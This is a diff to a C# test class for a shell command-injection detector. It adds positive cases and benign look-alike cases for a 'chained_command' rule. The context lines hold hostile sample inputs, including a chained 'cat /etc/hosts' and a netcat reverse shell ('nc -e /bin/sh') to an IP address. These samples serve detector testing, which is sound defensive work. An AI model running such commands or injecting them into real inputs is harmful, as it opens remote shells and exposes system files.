@@ -30,10 +30,13 @@ public sealed class ShellRuleTests
     [TestCase("lookup example.org; cat /etc/hosts", TestName = "cmd.chained_command positive: cat after words")]
     [TestCase("ok then | nc -e /bin/sh 10.9.8.7 99", TestName = "cmd.chained_command positive: netcat with exec")]
     [TestCase("word c: || dir || x", TestName = "cmd.chained_command positive: dir between double pipes")]
+    [TestCase("q\n if [ 1 -ne 2 ]\n then sleep 3\n fi", TestName = "cmd.chained_command positive: command after a reserved word")]
     public void Chained_command(string input) => AssertFires(input, "cmd.chained_command", F);
 
     [TestCase("Ping me when you are back; cat pictures welcome", TestName = "cmd.chained_command look-alike: prose semicolon")]
     [TestCase("Kill -9 is harsh; use kill -15", TestName = "cmd.chained_command look-alike: prose about signals")]
+    [TestCase("Work hard; then sleep 8 hours", TestName = "cmd.chained_command look-alike: sleep in a sentence")]
+    [TestCase("see also & /etc/cron.daily/logs", TestName = "cmd.chained_command look-alike: path after an ampersand")]
     public void Chained_command_look_alike(string input) => AssertBenign(input, "cmd.chained_command");
 
     [TestCase("go on; frobnicate --all -q >/dev/null", TestName = "cmd.chained_invocation positive: unknown program with options and redirection")]
